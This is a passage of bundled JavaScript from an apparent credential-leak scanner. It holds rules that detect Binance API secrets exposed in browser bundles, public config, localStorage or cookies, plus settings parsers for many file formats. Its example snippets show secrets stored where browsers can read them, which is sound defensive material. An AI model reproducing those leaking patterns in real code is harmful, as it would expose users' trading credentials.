	if (!text.includes("$env/static/public")) return /* @__PURE__ */ new Set();
	return new Set([...text.matchAll(publicModule)].flatMap(([, names]) => names.match(/[A-Za-z_]\w*/g) ?? []));
}
/** A name of the program’s own that was given what is read beside it: `const NAME = env.NAME`, `NAME: env.NAME`. */
function isKnownName(name, line, after, bare) {
	if (bare.has(name) && !/^["']?\s*:/.test(after)) return true;
	bare.add(name);
	const rest = after.split(/[,;\n}]/, 1)[0];
	return (/\b(?:const|let|var)\s+$/.test(line) || /^["']?\s*[:=]/.test(after)) && new RegExp(`\\.${name}\\b`).test(rest);
}
function isCode({ language }) {
	return !/^(?:env|yaml|shell|toml|ini|properties|json|powershell|batch|xml)$/.test(language);
}
function lineBefore$1(text, at) {
	return text.slice(require_worth_reading.lineStart(text, at), at);
}
const configFile = /(?:^|\/)(?:next|nuxt|vite|vue|webpack[\w.-]*|rollup|rspack|rsbuild|esbuild|quasar|gatsby-config|astro|svelte|metro|app|craco|config-overrides|babel|electron\.vite|vitest|umi|farm|tsup|snowpack|parcel|remix|ember-cli-build|angular|brunch|modern)[\w.-]*\.(?:[cm]?[jt]s|json)$|(?:^|\/)(?:config-overrides|\.umirc|gatsby-config|webpack\/[\w.-]+|environments?\/environment[\w.-]*)\.[cm]?[jt]s$|(?:^|\/)build[\w.-]*\.[cm]?[jt]s$|(?:^|\/)app\.json$|(?:^|\/)(?:\.babelrc|babel\.config\.\w+)$/;
/** Where in a configuration names stand that end in the bundle, by the steps above them. */
function isInlined(steps, path) {
	const file = path.slice(path.lastIndexOf("/") + 1);
	const has = (...wanted) => wanted.every((step) => steps.includes(step));
	if (/^next\.config\./.test(file) && has("env")) return "the env block of next.config puts it into the bundle";
	if (has("publicRuntimeConfig")) return "publicRuntimeConfig is sent to every browser";
	if (has("runtimeConfig", "public")) return "runtimeConfig.public is sent to every browser";
	if (/^nuxt\.config\./.test(file) && has("env")) return "the env block of nuxt.config puts it into the bundle";
	if (has("define") && configFile.test(path)) return "define puts it into the bundle";
	if (/^app\.(?:config\.\w+|json)$/.test(file) && has("extra")) return "extra is part of the app";
	if (/^quasar\.(?:config|conf)\./.test(file) && has("env")) return "build.env puts it into the bundle";
	if (/(?:^|\/)environments?\/environment[\w.-]*\.ts$/.test(path) && has("environment")) return "Angular puts its environment into the bundle";
}
const plugins = /(?:^|\.)(?:DefinePlugin|EnvironmentPlugin|replace|defineAppConfig|DotenvPlugin|environment|transformDefine|envInline|inlineEnv|injectEnv)$/;
function* inlined(subject) {
	const { document, settings } = subject;
	for (const setting of settings) {
		const { path, call, value, span } = setting;
		const steps = path.flatMap((step) => step.split("."));
		const last = steps.at(-1) ?? "";
		const callee = call?.callee.join(".") ?? "";
		const isPlugin = plugins.test(callee);
		if (isPlugin && /EnvironmentPlugin$|^environment$|\.environment$/.test(callee) && value.kind === "list") {
			for (const item of value.items.slice(0, 200)) {
				if (item.kind !== "text" || secretName(item.text) === void 0 || item.pieces.length === 0) continue;
				yield {
					span: {
						start: item.pieces[0].source.start,
						end: item.pieces.at(-1).source.end
					},
					secret: item.text,
					says: "EnvironmentPlugin puts it into the bundle"
				};
			}
			continue;
		}
		if (secretName(last) === void 0) continue;
		const above = [...call ? ["", ...call.callee] : [], ...steps.slice(0, -1)];
		const says = isPlugin ? `${call.callee.at(-1)} puts it into the bundle` : isInlined(above, document.path);
		if (says === void 0 || callee.endsWith("replace") && !configFile.test(document.path)) continue;
		const place = nameBefore$2(document.text, span.start, last);
		if (place) yield {
			span: place,
			secret: last,
			says
		};
	}
}
/** Where the name of a value stands, before it. */
function nameBefore$2(text, at, name) {
	const from = Math.max(0, at - 300);
	const found = text.slice(from, at).lastIndexOf(name);
	if (found >= 0) return {
		start: from + found,
		end: from + found + name.length
	};
	return text.startsWith(name, at) ? {
		start: at,
		end: at + name.length
	} : void 0;
}
const publicConfig = /\b(?:[\w$]*[cC]onfig|useRuntimeConfig\(\))\.public(?:\.|\[["'])([A-Za-z_]\w{3,80})/g;
function* publicReads(subject) {
	for (const { part, match, at } of occurrences(subject, publicConfig)) {
		const name = match[1];
		if (secretName(name) === void 0) continue;
		const start = at + match[0].length - name.length;
		yield {
			span: part.source({
				start,
				end: start + name.length
			}),
			secret: name,
			says: "the public configuration is sent to every browser"
		};
	}
}
const useClient = /^(?:\s|\/\/[^\n]*\n|\/\*[\s\S]{0,2000}?\*\/)*(['"])use client\1/;
const environmentRead = /\b(?:process\.env|import\.meta\.env)(?:\??\.|\[\s*["'`])([A-Za-z_]\w{2,80})/g;
const importedSecret = /\bimport\s*(?:type\s)?\{([^{}]{1,600})\}\s*from\s*["']([^"'\n]{1,200})["']/g;
const sdkImport = /(?:from|require\(|import)\s*["'](?:@binance\/|binance|node-binance-api|ccxt)/;
const publicPrefix = new RegExp(`^_?(?:${prefixes})_`);
function isBrowserFile({ document: { path, text } }) {
	if (/\.(?:vue|svelte)$/.test(path)) return !/(?:^|\/)server\//.test(path);
	if (/\.(?:html?|xhtml)$/.test(path)) return true;
	return /\.(?:[cm]?[jt]sx?)$/.test(path) && useClient.test(text.slice(0, 4e3));
}
const serverFile = /(?:^|\/)(?:server|api|pages\/api|netlify|functions|edge|scripts?|bin|cli|tests?)\/|\.server\.\w+$|\+server\.\w+$|\+(?:page|layout)\.server\.|\.(?:test|spec)\.\w+$/;
function* browserFiles(subject) {
	const { text, path } = subject.document;
	const isBrowser = isBrowserFile(subject);
	for (const { part, match, at } of occurrences(subject, environmentRead)) {
		const name = match[1];
		if (publicPrefix.test(name) || secretName(name) === void 0) continue;
		const isVite = match[0].startsWith("import") && !serverFile.test(path) && !/\.astro$/.test(path) && !/astro|sveltekit|\bssr\b|createServerFn|server\$/i.test(text);
		if (!isBrowser && !isVite) continue;
		const start = at + match[0].length - name.length;
		yield {
			span: part.source({
				start,
				end: start + name.length
			}),
			secret: name,
			says: isBrowser ? "this file runs in the browser" : "import.meta.env is put into the bundle"
		};
	}
	if (!isBrowser || !sdkImport.test(text)) return;
	for (const { part, match, at } of occurrences(subject, importedSecret)) for (const { index, 0: name } of match[1].matchAll(/[A-Za-z_]\w*/g)) {
		if (!/^[A-Z][A-Z0-9_]+$/.test(name) || publicPrefix.test(name) || secretName(name) === void 0) continue;
		const start = at + match[0].indexOf(match[1]) + index;
		yield {
			span: part.source({
				start,
				end: start + name.length
			}),
			secret: name,
			says: "this file runs in the browser",
			confidence: "likely"
		};
	}
}
const storages = /^(?:localstorage|sessionstorage|.*(?:local|session|browser|web|async|secure)_?storage|storage|localforage|cookies?|cookiestore|nookies|jscookie|cookies\w*|chrome|browser|mmkv|preferences|sharedpreferences|idb|idbkeyval|store2|lscache|uni|wx|ls)$/i;
const writers = /^(?:setitem|getitem|set|get|put|read|write|save|load|setcookie|getcookie|setstring|getstring|setstoragesync|getstoragesync|setobject|cookie)$/i;
const hooks = /^(?:use(?:Local|Session|Async|Browser|Persisted|Persistent)?_?(?:Storage|State|Cookies?)(?:Value|State)?|usePersistedState|createLocalStorage|persistentAtom|atomWithStorage|setCookie|getCookie|readCookie|writeCookie|createCookie|\$\.cookie|setLocalStorage|getLocalStorage|saveToLocalStorage|loadFromLocalStorage|saveToStorage|useStickyState)$/;
const securely = /securestore|keychain|encryptedstorage|securestorage|flutter_?secure|safestorage|keystore|vault/i;
const removes = /^(?:remove|removeitem|clear|delete|has|contains|del)$/i;
/** A storage key that names the secret: `binance_api_secret`, `binance.secret`, `settings:apiSecret`. */
function storageSecret(key) {
	if (key.length > 80 || /\s.*\s/.test(key)) return void 0;
	if (secretName(key) !== void 0) return key;
	return secretName(key.split(/[.:/@]/).at(-1) ?? "") === void 0 ? void 0 : key;
}
function* stored(subject) {
	const { document, reading } = subject;
	for (const { callee, args } of reading.calls) {
		const last = callee.at(-1) ?? "";
		const receivers = callee.slice(0, -1);
		if (removes.test(last) || callee.some((step) => securely.test(step))) continue;
		const isStorage = receivers.some((step) => storages.test(step)) && writers.test(last);
		if (!isStorage && !hooks.test(last) && !(last === "cookie" && receivers.length > 0)) continue;
		if (last === "useState" && args.length > 1) continue;
		for (const { path, value, span } of args) {
			if (path.length === 1 && path[0] === "0" && value.kind === "text") {
				const secret = storageSecret(value.text);
				if (secret === void 0) break;
				yield {
					span: literalSpan(document.text, value) ?? span,
					secret,
					says: `${require_worth_reading.shown(callee.join("."))} keeps it in the browser`
				};
				break;
			}
			const name = path.at(-1) ?? "";
			if (path.length === 2 && path[0] === "0" && isStorage && secretName(name) !== void 0) {
				const place = nameBefore$2(document.text, span.start, name);
				if (place) yield {
					span: place,
					secret: name,
					says: `${require_worth_reading.shown(callee.join("."))} keeps it in the browser`
				};
			}
		}
	}
	for (const { part, match, at } of occurrences(subject, storageEntry)) {
		const name = match[1] ?? match[2];
		const secret = storageSecret(name);
		if (secret === void 0 || /\bdelete\s+(?:window\.)?$/.test(lineBefore$1(part.text, at))) continue;
		const quoted = match[1] === void 0 ? 0 : 1;
		const start = at + match[0].lastIndexOf(name) - quoted;
		yield {
			span: part.source({
				start,
				end: start + name.length + 2 * quoted
			}),
			secret,
			says: "the browser keeps it in its storage"
		};
	}
	for (const { part, match, at } of occurrences(subject, cookieText)) {
		const name = match[2];
		const secret = storageSecret(name);
		if (secret === void 0 || /^\s*;\s*(?:max-age=0|expires=thu, 01 jan 1970)/i.test(part.text.slice(at + match[0].length, at + match[0].length + 60))) continue;
		const end = at + match[0].length;
		const start = end - match[1].length - name.length - 1;
		yield {
			span: part.source({
				start,
				end: part.text.startsWith(match[1], end) ? end + 1 : end
			}),
			secret,
			says: "the browser keeps it in a cookie"
		};
	}
}
const storageEntry = /\b(?:localStorage|sessionStorage)(?:\[\s*["'`]([^"'`\n]{3,80})["'`]\s*\]|\.(?!setItem\b|getItem\b|removeItem\b|clear\b|key\b|length\b)([A-Za-z_]\w{2,80}))/g;
const cookieText = /\bdocument\.cookie\s*=\s*(["'`])([\w.-]{3,80})=/g;
function* all(subject) {
	yield* publicVariables(subject);
	yield* inlined(subject);
	yield* publicReads(subject);
	yield* browserFiles(subject);
	yield* stored(subject);
}
function cluesOf(secret) {
	const { binance } = require_worth_reading.meaningOf(secret);
	if (binance === "name") return [clue("binance-name", "its name says Binance")];
	return binance === "short" ? [clue("binance-short-name", "its name says BN or BNB")] : [];
}
function certainty(said) {
	return said === "binance" ? "certain" : said === "secret" ? "likely" : "possible";
}
const clientExposed = {
	id: "client-exposed",
	title: "Secret in what browsers get",
	severity: "high",
	finds: "A secret key or private key in a variable that a web framework puts into its bundle (`NEXT_PUBLIC_…`, `VITE_…`, `REACT_APP_…` and the others), in the `env` block of next.config, Nuxt’s `runtimeConfig.public`, `define`, an app’s `extra`, in code that only browsers run, or in the browser’s storage or cookies. Not API keys alone, and not code that runs on a server.",
	why: "What is in the bundle of a page or an app, everybody who opens it can read. What is in a browser’s storage, every script on the page and every extension can read. With the secret they can trade as you.",
	advice: [
		"Delete the key at Binance if the page or app was ever published: its secret is out.",
		"Keep the secret on a server: sign the requests there, and let the page talk to that server.",
		"Take the public prefix off the variable’s name, and read it in server code only.",
		"For a page that only shows prices no key is needed."
	],
	references: [
		"https://developers.binance.com/docs/binance-spot-api-docs/rest-api/request-security",
		"https://nextjs.org/docs/app/guides/environment-variables#bundling-environment-variables-for-the-browser",
		"https://vite.dev/guide/env-and-mode.html"
	],
	*look(subject) {
		if (isOfOther(subject)) return;
		const seen = /* @__PURE__ */ new Set();
		const hasWallets = isOfWallets(subject);
		let count = 0;
		for (const { span, secret, says, confidence } of all(subject)) {
			if (seen.has(span.start)) continue;
			if ((count += 1) > maxFound) return;
			const said = secretName(secretName(secret) === void 0 ? secret.split(/[.:/@]/).at(-1) ?? "" : secret);
			if (said === "vague" && hasWallets) continue;
			seen.add(span.start);
			yield {
				span,
				name: secret,
				message: `${require_worth_reading.shown(secret)} gets to everybody who opens the page: ${says}; keep it on a server`,
				confidence: confidence ?? certainty(said),
				clues: cluesOf(secret)
			};
		}
	},
	examples: {
		leaks: [
			{
				path: "src/api.ts",
				text: "export const secret = import.meta.env.«VITE_BINANCE_API_SECRET»;"
			},
			{
				path: ".env",
				text: "«NEXT_PUBLIC_BINANCE_SECRET_KEY»=\n«REACT_APP_BINANCE_API_SECRET»="
			},
			{
				path: "next.config.js",
				text: "module.exports = {\n  env: { «BINANCE_API_SECRET»: process.env.BINANCE_API_SECRET },\n};"
			},
			{
				path: "nuxt.config.ts",
				text: "export default defineNuxtConfig({ runtimeConfig: { public: { «binanceSecret»: process.env.BINANCE_SECRET } } });"
			},
			{
				path: "vite.config.ts",
				text: "export default defineConfig({ define: { 'process.env.«BINANCE_SECRET»': JSON.stringify(process.env.BINANCE_SECRET) } });"
			},
			{
				path: "webpack.prod.js",
				text: "module.exports = {\n  plugins: [\n    new webpack.DefinePlugin({\n      'process.env.«BINANCE_API_SECRET»': JSON.stringify(process.env.BINANCE_API_SECRET),\n      «BINANCE_SECRET»: JSON.stringify(process.env.BINANCE_API_SECRET),\n    }),\n  ],\n};"
			},
			{
				path: "env.ts",
				text: "if (!process.env.«VITE_BINANCE_SECRET») throw new Error('no secret');\nconst required = ['«NEXT_PUBLIC_BINANCE_SECRET»'];"
			},
			{
				path: "app.json",
				text: "{ \"expo\": { \"extra\": { \"«binanceSecret»\": \"\" } } }"
			},
			{
				path: "Trade.tsx",
				text: "'use client';\nimport { Spot } from '@binance/connector';\nconst client = new Spot(key, process.env.«BINANCE_API_SECRET»);"
			},
			{
				path: "desk.js",
				text: "localStorage.setItem(«'binance_api_secret'», value);\nconst s = localStorage[«'binance_api_secret'»];"
			},
			{
				path: "desk.js",
				text: "document.cookie = «\"binance_secret=\"» + value;"
			},
			{
				path: "src/lib/trade.ts",
				text: "import { «PUBLIC_BINANCE_SECRET» } from '$env/static/public';\nexport const client = Binance({ apiKey, apiSecret: «PUBLIC_BINANCE_SECRET» });"
			}
		],
		clean: [
			{
				path: ".env",
				text: "NEXT_PUBLIC_BINANCE_WS_URL=wss://stream.binance.com:9443\nNEXT_PUBLIC_BINANCE_API_KEY=\nBINANCE_API_SECRET=\nVITE_SHOW_BINANCE_SECRET=true"
			},
			{
				path: "desk.js",
				text: "localStorage.removeItem('binance_api_secret');\nlocalStorage.setItem('binance_theme', 'dark');"
			},
			{
				path: "nuxt.config.ts",
				text: "export default defineNuxtConfig({ runtimeConfig: { binanceSecret: '', public: { stream: 'wss://stream.binance.com' } } });"
			},
			{
				path: "guard.ts",
				text: "if (process.env.VITE_BINANCE_SECRET) throw new Error('VITE_BINANCE_SECRET must not be set');\nfor (const name of ['NEXT_PUBLIC_BINANCE_SECRET', 'REACT_APP_BINANCE_SECRET']) {\n  if (process.env[name]) process.exit(1);\n}\nconst forbidden = ['GATSBY_BINANCE_SECRET'];"
			},
			{
				path: "guard.py",
				text: "assert \"VITE_BINANCE_SECRET\" not in os.environ\nif os.environ.get(\"NEXT_PUBLIC_BINANCE_SECRET\"):\n    raise SystemExit(\"it is in the bundle\")"
			},
			{
				path: "route.ts",
				text: "import { Spot } from '@binance/connector';\nconst client = new Spot(process.env.BINANCE_API_KEY, process.env.BINANCE_API_SECRET);"
			},
			{
				path: "app.ts",
				text: "import * as SecureStore from 'expo-secure-store';\nSecureStore.setItemAsync('binance_secret', value);"
			}
		],
		missed: [{
			path: ".env",
			text: "BINANCE_API_SECRET=",
			because: "whether the `envPrefix` of another file covers it is not asked"
		}]
	}
};
// ../engine/dist/rules/documented-example.js
const documentedExample = {
	id: "documented-example",
	title: "Example key from Binance’s documentation",
	severity: "info",
	finds: "A key that Binance’s documentation publishes as an example. The list holds hashes, not values.",
	why: "Nobody’s money hangs on it. It shows that the place is made for a credential, and that a test signs with a published key.",
	advice: ["Nothing needs doing. A placeholder such as <API_KEY> would keep readers from wondering."],
	references: ["https://github.com/binance/binance-spot-api-docs/blob/master/rest-api.md"],
	examples: {
		leaks: [],
		clean: [
			{
				path: "binance.md",
				text: "apiKey: <API_KEY>"
			},
			{
				path: "binance.md",
				text: "The API key is 64 letters and digits long."
			},
			{
				path: "binance.md",
				text: "signature=<hex64:a>"
			}
		],
		missed: []
	}
};
// ../engine/dist/risks/calls/calls.js
/** Calls in calls: which name, or which place among other arguments, the result of one is given, and what stands within. */
const known$13 = /* @__PURE__ */ new WeakMap();
/** What may stand between a name and the call that makes its value. */
const before$1 = [
	"",
	"new ",
	"&",
	"await ",
	"const "
];
/** For `rights = dict(withdraw=True)` and the call of `dict` it is the binding of `rights`. */
function holdersIn(reading) {
	let holderOf = known$13.get(reading);
	if (holderOf) return holderOf;
	/** Where the chain ends that begins there: `x = key().margin(true).futures(true)` gives the name what every step says. */
	const ends = /* @__PURE__ */ new Map();
	for (const { span } of reading.calls) ends.set(span.start, Math.max(span.end, ends.get(span.start) ?? 0));
	const holders = /* @__PURE__ */ new Map();
	const hold = (one, call) => {
		if (!before$1.some((word) => ends.has(one.span.start + word.length))) return;
		const holder = call ? {
			...one,
			call
		} : one;
		const other = holders.get(holder.span.start);
		if (!other || other.span.end < holder.span.end) holders.set(holder.span.start, holder);
	};
	for (const binding of reading.bindings) hold(binding);
	for (const call of reading.calls) for (const argument of call.args) hold(argument, call);
	holderOf = ({ span: { start } }) => {
		const end = ends.get(start) ?? 0;
		for (const word of before$1) {
			const holder = holders.get(start - word.length);
			if (holder && holder.span.end >= end && holder.span.end <= end + 2) return holder;
		}
	};
	known$13.set(reading, holderOf);
	return holderOf;
}
/** `[("status", "1")]`, `{{"status", "1"}}`: what pairs of a name and a value in a call’s arguments say, by the names. */
function pairsIn$1({ args }) {
	const found = [];
	for (const [index, { path, value, container }] of args.entries()) {
		const next = args[index + 1];
		if (!/^\d+$/.test(path.at(-2) ?? "") || path.at(-1) !== "0" || next?.path.at(-1) !== "1" || next.container !== container) continue;
		if (value.kind === "text" && identifier$1.test(value.text)) found.push({
			...next,
			path: value.text.split(".")
		});
	}
	return found;
}
const identifier$1 = /^[A-Za-z][\w.-]{1,60}$/;
/** Counts what begins at one place, as the calls of a chain do; true from one more than `most` on. */
function oftenAt(most) {
	const counts = /* @__PURE__ */ new Map();
	return (start) => {
		const count = (counts.get(start) ?? 0) + 1;
		counts.set(start, count);
		return count > most;
	};
}
const byStart$1 = /* @__PURE__ */ new WeakMap();
/** The calls that stand in a span as a whole, in the order of the reading: at most so many of those that begin first. */
function callsWithin(reading, span, most) {
	let calls = byStart$1.get(reading);
	if (!calls) {
		calls = reading.calls.map((call, order) => ({
			call,
			order
		})).sort((a, b) => a.call.span.start - b.call.span.start);
		byStart$1.set(reading, calls);
	}
	const first = countBefore(calls.length, (i) => calls[i].call.span.start < span.start);
	const after = countBefore(calls.length, (i) => calls[i].call.span.start <= span.end);
	return calls.slice(first, Math.min(after, first + most)).filter(({ call }) => call.span.end <= span.end).sort((a, b) => a.order - b.order).map(({ call }) => call);
}
// ../engine/dist/risks/settings/unread-forms.js
/** Forms of settings that the readers of code do not see as names and values: one function for each. */
const token = /"(?:[^"\\]|\\[^])*"|;[^\n]*|#_|#?\{|[[\](){}]|[^\s,;"[\](){}]+/g;
const maxTokens = 1e5;
/**
* EDN and Clojure, `{:enable-withdrawals true :rights #{:read :withdraw}}`: what keywords stand for in every mapping; a
* list or a set as a whole, without its items.
*/
function keywordBindings(text) {
	const found = [];
	const levels = [];
	let count = 0;
	const entry = (level, span, value) => {
		const path = [...level.path, level.key];
		found.push({
			path,
			container: level.start,
			via: "entry",
			span,
			value
		});
		delete level.key;
	};
	for (const { 0: word, index: start } of text.matchAll(token)) {
		if ((count += 1) > maxTokens) break;
		const level = levels.at(-1);
		const end = start + word.length;
		if (word.startsWith(";")) continue;
		if (/^#?[{[(]$/.test(word)) levels.push({
			open: word,
			start,
			path: level?.key === void 0 ? level?.path ?? [] : [...level.path, level.key]
		});
		else if (/^[})\]]$/.test(word)) {
			levels.pop();
			const outer = levels.at(-1);
			if (outer?.open !== "{" || outer.key === void 0) continue;
			if (level && level.open !== "{" && level.open !== "(") entry(outer, {
				start: level.start,
				end
			}, { kind: "unknown" });
			delete outer.key;
		} else if (level?.open !== "{") continue;
		else if (level.key === void 0) level.key = word.replace(/^:+|^"|"$/g, "");
		else entry(level, {
			start,
			end
		}, valueOf(word, start));
	}
	return found;
}
function valueOf(word, start) {
	if (/^(?:true|false|nil|-?\d[\d.]*)$/.test(word)) return {
		kind: "scalar",
		text: word
	};
	const text = word.startsWith("\"") ? word.slice(1, -1) : word.startsWith(":") ? word.replace(/^:+/, "") : void 0;
	if (text === void 0 || text.includes("\\")) return { kind: "unknown" };
	const from = start + (word.startsWith("\"") ? 1 : word.length - text.length);
	const source = {
		start: from,
		end: from + text.length
	};
	return {
		kind: "text",
		text,
		pieces: [{
			text: {
				start: 0,
				end: text.length
			},
			source
		}]
	};
}
/** The flags of command lines, `--enable-withdrawals=true`, where no quote is open. `comments` in their order. */
function flagBindings(text, comments) {
	return commandBindings(text, comments, /(?<=\s)--([A-Za-z][\w.-]{1,60})=([^\s"'`;|&$]{1,200})(?=\s|$)/g, "entry");
}
/** Variables that are set for a command, `NAME=true ./bot`, also in a line of a Makefile. */
function variableBindings(text, comments) {
	return commandBindings(text, comments, /(?<=^|[\s;&|])([A-Z][A-Z0-9_]{2,80})=("[^"$`\n]{0,400}"|'[^'\n]{0,400}'|[^\s"'`;|&$()<>]{1,200})(?=[\s;&|]|$)/gm, "assign");
}
function commandBindings(text, comments, pattern, via) {
	const found = [];
	let line = 0;
	let quote = "";
	let at = 0;
	for (const { 0: whole, 1: name = "", 2: value = "", index } of text.matchAll(pattern)) {
		for (; at < index; at += 1) {
			const letter = text.charAt(at);
			if (letter === "\n") {
				line = at + 1;
				quote = "";
			} else if (quote === "" ? /["'`]/.test(letter) : letter === quote) quote = quote === "" ? letter : "";
		}
		if (quote !== "") continue;
		const before = countBefore(comments.length, (i) => comments[i].start <= index);
		if (before > 0 && index < comments[before - 1].end) continue;
		const container = via === "entry" ? -1 - line : 0;
		found.push({
			path: [name],
			container,
			via,
			...written(value, index + whole.length - value.length)
		});
	}
	return found;
}
/** Attributes of Elixir’s modules: `@permissions [:read, :withdraw]`. */
function attributeBindings(text) {
	return [...text.matchAll(/^[ \t]{1,20}@(\w{1,80})[ \t]+(\[[^[\]]{0,2000}\]|true|false|-?\d[\w.]{0,30}|"[^"\n]{0,400}")[ \t]*$/gm)].map(({ 0: whole, 1: name = "", 2: value = "", index }) => {
		const start = index + whole.lastIndexOf(value);
		const place = {
			path: [name],
			container: 0,
			via: "assign"
		};
		if (!value.startsWith("[")) return {
			...place,
			...written(value, start)
		};
		const span = {
			start,
			end: start + value.length
		};
		return {
			...place,
			span,
			value: /^\[\s*\]$/.test(value) ? {
				kind: "list",
				items: []
			} : { kind: "unknown" }
		};
	});
}
/** `ENV NAME value` of a Dockerfile, the older form of `ENV NAME=value`. */
function dockerBindings(text) {
	return [...text.matchAll(/^[ \t]*(?:ENV|ARG)[ \t]+([A-Za-z]\w{1,80})[ \t]+([^\s=][^\n]{0,400}?)[ \t]*$/gim)].map(({ 0: whole, 1: name = "", 2: value = "", index }) => {
		const start = index + whole.lastIndexOf(value);
		return {
			path: [name],
			container: 0,
			via: "assign",
			...written(value, start)
		};
	});
}
/** `public bool AllowWithdraw { get; set; } = true;` of C#, in its class. `= false` is what the type has of itself. */
function propertyBindings(text) {
	const classes = [...text.matchAll(/\b(?:class|record|struct)\s+(\w{1,80})/g)];
	return [...text.matchAll(/\b(\w{1,80})\s{0,9}\{\s{0,9}get;[^{}]{0,40}\}\s{0,9}=\s{0,9}(true|-?\d[\w.]{0,30}|"[^"\n]{1,400}")\s{0,9};/g)].map(({ 0: whole, 1: name = "", 2: value = "", index }) => {
		const owner = classes[countBefore(classes.length, (i) => classes[i].index < index) - 1];
		const start = index + whole.lastIndexOf(value);
		return {
			path: [...owner ? [owner[1]] : [], name],
			container: owner?.index ?? 0,
			via: "assign",
			...written(value, start)
		};
	});
}
const nameAndValue = /(?<![\w.])name["']?\s{0,20}[=:]\s{0,4}"([A-Za-z]\w{1,80})"\s{0,4}[,\n]\s{0,80}["']?value["']?\s{0,20}[=:]\s{0,4}("[^"$\n]{0,400}"|true|false|\d{1,12}\b)|(?<![\w.])value["']?\s{0,20}[=:]\s{0,4}("[^"$\n]{0,400}"|true|false|\d{1,12}\b)\s{0,4}[,\n]\s{0,80}["']?name["']?\s{0,20}[=:]\s{0,4}"([A-Za-z]\w{1,80})"/g;
/** Terraform’s `{ name = "…", value = "…" }` of a list and `env { … }` of a resource: the variables of one resource. */
function namedValueBindings(text, comments) {
	const resources = [...text.matchAll(/^[ \t]*(?:resource|module|data|locals|variable|job)\b[^\n{]{0,200}\{/gm)];
	return [...text.matchAll(nameAndValue)].flatMap(({ 0: whole, 1: first, 2: after, 3: before, 4: last, index }) => {
		const name = first ?? last;
		const value = after ?? before;
		const commented = countBefore(comments.length, (i) => comments[i].start <= index);
		if (commented > 0 && index < comments[commented - 1].end) return [];
		const owner = resources[countBefore(resources.length, (i) => resources[i].index < index) - 1]?.index ?? 0;
		const start = index + (after === void 0 ? whole.indexOf(value) : whole.length - value.length);
		return [{
			path: ["env", name],
			container: owner,
			via: "entry",
			...written(value, start)
		}];
	});
}
/** Macros of Ruby’s classes, `base_uri 'https://…'`. */
function macroBindings(text) {
	return [...text.matchAll(/^[ \t]{1,20}((?:base_?|root_?|api_?)?(?:ur[il]|host|site|endpoint))[ \t]{1,9}("[^"\n#]{1,400}"|'[^'\n]{1,400}')[ \t]*$/gm)].map(({ 0: whole, 1: name = "", 2: value = "", index }) => ({
		path: [name],
		container: index,
		via: "assign",
		...written(value, index + whole.lastIndexOf(value))
	}));
}
/** `#define BASE_URL "…"` */
function defineBindings(text) {
	return [...text.matchAll(/^[ \t]*#[ \t]*define[ \t]+([A-Za-z_]\w{0,80})[ \t]+("[^"\n]{1,400}"|true|false|\d[\w.]{0,30})[ \t]*(?:\/[/*][^\n]*)?$/gm)].map(({ 0: whole, 1: name = "", 2: value = "", index }) => ({
		path: [name],
		container: 0,
		via: "assign",
		...written(value, index + whole.indexOf(value, whole.indexOf(name) + name.length))
	}));
}
/** `{ "enableWithdrawals", true }` in a mapping of C# or C++. */
function pairBindings(text) {
	return [...text.matchAll(/\{\s{0,20}"([A-Za-z][\w.]{1,60})"\s{0,9},\s{0,9}(true|false|-?\d[\w.]{0,30}|"[^"\n]{0,400}")\s{0,20}\}/g)].map(({ 0: whole, 1: name = "", 2: value = "", index }) => ({
		path: [name],
		container: 0,
		via: "entry",
		...written(value, index + whole.lastIndexOf(value))
	}));
}
const powershell = /#[^\n]*|(?:\$(?:\w{1,20}:)?)?["']?([A-Za-z][\w.-]{0,80})["']?\s{0,9}=\s{0,9}(?:(\$(?:true|false)\b|"[^"`$\n]{0,400}"|'[^'\n]{0,400}'|\d{1,12}\b)|(?=(@?\{))|@\(([^()\n]{0,2000})\))?|"[^"\n]*"|'[^'\n]*'|[{}]/gi;
/** PowerShell: `$env:NAME = "…"`, and the entries of `@{ Name = $true }`. */
function powershellBindings(text) {
	const found = [];
	const levels = [];
	let pending;
	for (const { 0: whole, 1: name, 2: value, 3: opens, 4: list, index } of text.matchAll(powershell)) {
		const level = levels.at(-1);
		if (whole === "{") levels.push({
			start: index,
			path: [...level?.path ?? [], ...pending === void 0 ? [] : [pending]]
		});
		else if (whole === "}") levels.pop();
		pending = opens === void 0 ? void 0 : name;
		if (name === void 0) continue;
		const place = {
			container: level?.start ?? 0,
			via: level ? "entry" : "assign"
		};
		const path = [...level?.path ?? [], name];
		const end = index + whole.length;
		if (value !== void 0) found.push({
			...place,
			path,
			...written(value.replace("$", ""), end - value.replace("$", "").length),
			...value.startsWith("$") && { span: {
				start: end - value.length,
				end
			} }
		});
		if (list === void 0) continue;
		const start = end - 1 - list.length;
		for (const [order, item] of [...list.matchAll(/"[^"]*"|'[^']*'/g)].entries()) found.push({
			path: [...path, String(order)],
			container: start - 1,
			via: "entry",
			...written(item[0], start + item.index)
		});
		if (list.trim() === "") found.push({
			...place,
			path,
			value: {
				kind: "list",
				items: []
			},
			span: {
				start: start - 2,
				end
			}
		});
	}
	return found;
}
/** A text in quotes, else a scalar or a bare word, where it is written. */
function written(source, start) {
	const span = {
		start,
		end: start + source.length
	};
	if (/^(?:true|false|-?\d[\d_]*(?:\.\d+)?)$/i.test(source)) return {
		span,
		value: {
			kind: "scalar",
			text: source
		}
	};
	const isQuoted = /^(["']).*\1$/.test(source);
	const text = isQuoted ? source.slice(1, -1) : source;
	const from = isQuoted ? start + 1 : start;
	if (text === "") return {
		span,
		value: {
			kind: "text",
			text,
			pieces: []
		}
	};
	return {
		span,
		value: {
			kind: "text",
			text,
			pieces: [{
				text: {
					start: 0,
					end: text.length
				},
				source: {
					start: from,
					end: from + text.length
				}
			}]
		}
	};
}
// ../engine/dist/risks/settings/placeholder-defaults.js
/** What a setting is where nobody says otherwise: the default in its placeholder, `${NAME:-true}`, `{{ x | default "…" }}`. */
const telling$1 = /^(?:(?:https?|wss?):\/\/[^\s{}]{1,300}|true|false|yes|no|on|off|enabled?|disabled?|\d[\d._]{0,20}|[\da-fA-F.:/,\s]*[\d:][\da-fA-F.:/,\s]*|\*|hmac|rsa|ed25519)$/i;
/** Whether a default says something by itself: an address, a switch, a number, a list of IPs, a type of keys. */
function isTelling(text) {
	return telling$1.test(text);
}
/** Prefixes that say where a variable comes from. */
const sources = "env|ENV|oc\\.env|sys|opt|self|param|ssm|file|vault|secret|cf|aws|jndi|lower|upper|bundle";
/** `${NAME:-d}`, `${NAME:d}` of Spring, `%{NAME:-d}`, `${env:NAME:-d}`. */
